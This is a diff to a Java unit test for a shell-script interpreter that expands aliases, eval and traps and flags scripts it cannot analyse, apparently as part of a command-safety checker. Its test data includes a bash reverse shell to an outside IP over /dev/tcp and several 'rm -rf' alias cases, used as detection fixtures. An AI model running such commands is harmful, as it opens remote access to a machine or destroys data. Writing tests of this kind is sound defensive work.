@@ -96,8 +96,9 @@ class InterpreterTest {
                 "( cd /tmp; d=1; rm x ); x ${d-none} => rm x; x none",
                 "echo a | x; y | z => x; y; z",
                 "! a; time b; { c; }; coproc d => a; b; c; d",
-                "alias r='rm -rf'\\nr x => rm -rf x",
-                "alias r='rm -rf'; r x => r x",
+                "alias r='rm -rf'\\nr x => rm -rf x; r x",
+                "alias r='rm -rf'; r x => rm -rf x; r x",
+                "alias r=x; unalias r; r => unalias r; r",
                 "eval 'rm \"a b\"' c => rm 'a b' c",
                 "x=1 y $x => y ‹x›",
                 "trap 'rm x' EXIT; y => y; rm x",
@@ -206,7 +207,7 @@ class InterpreterTest {
                 "eval \"$(python3 x.py)\" => UNKNOWN_CODE",
                 "bash -i >& /dev/tcp/1.2.3.4/99 0>&1 => REMOTE_SHELL",
                 "if => UNPARSED",
-                "f() { f $((n++)) x$2; }; f => LIMIT",
+                "x {1..9}{1..9}{1..9}{1..9}{1..9} => LIMIT",
             })
     void whatCannotBeUnderstoodIsSaid(String script, Opacity opacity) {
         assertThat(opacities(script)).contains(opacity);
